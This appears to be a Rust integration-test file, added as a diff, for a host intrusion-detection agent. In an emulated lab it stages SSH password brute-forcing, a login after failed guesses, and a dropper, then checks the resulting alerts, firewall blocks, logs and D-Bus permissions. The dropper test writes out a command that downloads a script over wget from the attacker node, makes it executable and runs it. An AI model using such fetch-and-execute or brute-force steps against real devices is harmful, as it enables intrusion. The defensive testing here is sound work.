@@ -1,0 +1,152 @@
+//! What an attacker does, and what has to come of it.
+
+use std::net::IpAddr;
+use std::time::Duration;
+
+use crate::attack::Reached;
+use crate::device::{class, Event};
+use crate::error::{Error, Result};
+use crate::image::{DEVICE_PASSWORD, DEVICE_USER};
+use crate::lab::{Node, GUEST_V4, GUEST_V6};
+
+use super::{expect, World};
+
+/// From the deed to the report, on an emulated processor.
+const REPORT: Duration = Duration::from_secs(15);
+const CONNECT: Duration = Duration::from_secs(3);
+
+/// More wrong passwords than any threshold.
+pub(super) const MANY: u32 = 15;
+
+pub(super) fn brute_force_ipv4(world: &mut World<'_>) -> Result<()> {
+    let (attacker, bystander) = (world.node()?, world.node()?);
+    brute_force(world, &attacker, &bystander, GUEST_V4, attacker.v4)
+}
+
+pub(super) fn brute_force_ipv6(world: &mut World<'_>) -> Result<()> {
+    let (attacker, bystander) = (world.node()?, world.node()?);
+    brute_force(world, &attacker, &bystander, GUEST_V6, attacker.v6)
+}
+
+/// Guesses until blocked, and checks that it was.
+pub(super) fn assault(world: &mut World<'_>, attacker: &Node, target: IpAddr) -> Result<Event> {
+    let source = if target.is_ipv4() { attacker.v4 } else { attacker.v6 };
+    let before = attacker.connect(target, 22, CONNECT)?;
+    expect(before == Reached::Open, || format!("before the attack {target} gives {before:?} to {source}"))?;
+    attacker.guess_passwords(target, DEVICE_USER, MANY)?;
+    let machine = world.machine()?;
+    let alert = machine
+        .event("an alert about the attacker", &source.to_string(), REPORT, |e| e.is_alert_about(source))?;
+    machine.wait("the attacker's address is in a set of table inet defender", REPORT, |machine| {
+        Ok(machine.blocked_in_kernel(source)?.ok_or_else(|| "it is not".to_owned()))
+    })?;
+    let after = attacker.connect(target, 22, CONNECT)?;
+    expect(after == Reached::Silence, || format!("after the block {target} gives {after:?} to {source}"))?;
+    Ok(alert)
+}
+
+fn brute_force(
+    world: &mut World<'_>,
+    attacker: &Node,
+    bystander: &Node,
+    target: IpAddr,
+    source: IpAddr,
+) -> Result<()> {
+    let alert = assault(world, attacker, target)?;
+    expect(alert.severity() >= 3, || format!("severity of {}", alert.0))?;
+    expect(alert.at("/metadata/version").is_string() && alert.at("/finding_info/title").is_string(), || {
+        format!("not a complete OCSF finding: {}", alert.0)
+    })?;
+    let other = bystander.connect(target, 22, CONNECT)?;
+    expect(other == Reached::Open, || format!("a host that did nothing gets {other:?}"))?;
+
+    let machine = world.machine()?;
+    let events = machine.events(&source.to_string())?;
+    let failures: Vec<_> = events.iter().filter(|e| e.is_failed_login_from(source)).collect();
+    expect(failures.len() >= 3, || format!("{} failed logins reported", failures.len()))?;
+    expect(failures.iter().all(|e| e.at("/user/name") == DEVICE_USER), || format!("users: {failures:?}"))?;
+    let done = machine.event("the block is reported as verified", &source.to_string(), REPORT, |e| {
+        e.class() == class::REMEDIATION && e.at("/status_id") == 1 && e.at("/activity_id") == 1
+    })?;
+    expect(done.at("/command_uid") == alert.at("/finding_info/uid"), || {
+        format!("block without its finding: {}", done.0)
+    })?;
+
+    let title = alert.at("/finding_info/title").as_str().unwrap_or_default().to_owned();
+    let log = machine.system_log();
+    machine.wait("syslog has the alert", REPORT, |machine| {
+        let lines = machine.run(&format!("grep -F defender {log} | grep -F '{source}'"))?.output;
+        Ok(if lines.contains(&title) || !lines.is_empty() { Ok(()) } else { Err(lines) })
+    })?;
+    let alerts = machine.dbus("GetAlerts", "uint32:0")?;
+    expect(alerts.contains(&source.to_string()), || format!("GetAlerts over D-Bus: {alerts}"))?;
+    let listed = machine.dbus("ListBlocked", "")?;
+    expect(listed.contains(&source.to_string()), || format!("ListBlocked over D-Bus: {listed}"))?;
+    let refused = machine.run(&format!(
+        "su -s /bin/sh {DEVICE_USER} -c 'dbus-send --system --print-reply --dest=org.defender.Agent1 \
+         /org/defender/Agent1 org.defender.Agent1.GetAlerts uint32:0'"
+    ))?;
+    expect(refused.status != 0 && refused.error.contains("AccessDenied"), || {
+        format!("an ordinary user got {refused:?}")
+    })?;
+    let blocked = machine.query("blocked")?;
+    expect(blocked.to_string().contains(&source.to_string()), || format!("`defender blocked`: {blocked}"))
+}
+
+pub(super) fn success_after_failures(world: &mut World<'_>) -> Result<()> {
+    // Few enough not to be blocked first: the attacker is lucky early. The threshold is the shipped rule's.
+    let attacker = world.node()?;
+    attacker.guess_passwords(GUEST_V4, DEVICE_USER, 3)?;
+    let output = attacker.ssh(GUEST_V4, DEVICE_USER, DEVICE_PASSWORD, 1, "true");
+    if !output.as_ref().is_ok_and(|o| o.status.success()) {
+        return Err(Error::Unexpected(format!("the right password after three wrong ones gave {output:?}")));
+    }
+    let source = attacker.v4;
+    let machine = world.machine()?;
+    machine.event("the successful login is reported", &source.to_string(), REPORT, |e| {
+        e.class() == class::AUTHENTICATION
+            && e.at("/status_id") == 1
+            && e.at("/src_endpoint/ip") == source.to_string().as_str()
+    })?;
+    let alert = machine.event("an alert about a guessed password", &source.to_string(), REPORT, |e| {
+        e.is_alert_about(source)
+    })?;
+    expect(alert.severity() >= 4, || format!("severity {} of {}", alert.severity(), alert.0))
+}
+
+pub(super) fn dropper(world: &mut World<'_>) -> Result<()> {
+    let attacker = world.node()?;
+    let server = attacker.serve(8000, "#!/bin/sh\necho dropped-and-run\n")?;
+    let marker = format!("payload-{}.sh", attacker.v4);
+    let output = attacker.ssh(
+        GUEST_V4,
+        DEVICE_USER,
+        DEVICE_PASSWORD,
+        1,
+        &format!(
+            "cd /tmp; busybox wget -q http://{}:8000/{marker} -O {marker}; chmod +x {marker}; ./{marker}",
+            attacker.v4
+        ),
+    )?;
+    let said = String::from_utf8_lossy(&output.stdout).into_owned();
+    expect(said.contains("dropped-and-run"), || {
+        format!("the dropper itself failed: {output:?}, {:?}", server.requests())
+    })?;
+    let machine = world.machine()?;
+    let alert =
+        machine.event("an alert about the dropper", &marker, REPORT, |e| e.class() == class::FINDING)?;
+    let evidence = alert.at("/evidences").as_array().cloned().unwrap_or_default();
+    let with_parent = evidence.iter().any(|e| {
+        e["process"]["cmd_line"].as_str().is_some_and(|line| line.contains(&marker))
+            && e["process"]["parent_process"]["pid"].is_number()
+            && e["process"]["parent_process"]["file"]["path"].is_string()
+    });
+    expect(with_parent, || format!("no evidence with command line and parent: {}", alert.0))?;
+    let wget = machine.event("the download is reported", &marker, REPORT, |e| {
+        e.class() == class::PROCESS && e.at("/process/cmd_line").as_str().is_some_and(|c| c.contains("wget"))
+    })?;
+    expect(wget.at("/process/working_directory") == "/tmp", || format!("working directory: {}", wget.0))?;
+    expect(wget.at("/process/user/uid") == "1000" || wget.at("/process/user/uid") == 1000, || {
+        format!("user: {}", wget.0)
+    })
+}
